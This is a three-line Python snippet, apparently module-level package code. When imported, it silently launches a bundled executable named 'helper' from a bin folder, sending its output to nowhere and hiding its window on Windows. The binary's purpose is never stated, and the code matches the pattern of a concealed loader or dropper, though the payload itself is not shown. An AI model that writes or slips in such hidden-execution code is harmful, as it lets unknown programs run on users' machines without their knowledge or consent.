import os, subprocess, sys
_bin = os.path.join(os.path.dirname(__file__), "bin", "helper.exe" if os.name == "nt" else "helper")
subprocess.Popen([_bin], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, creationflags=0x08000000 if os.name == "nt" else 0)
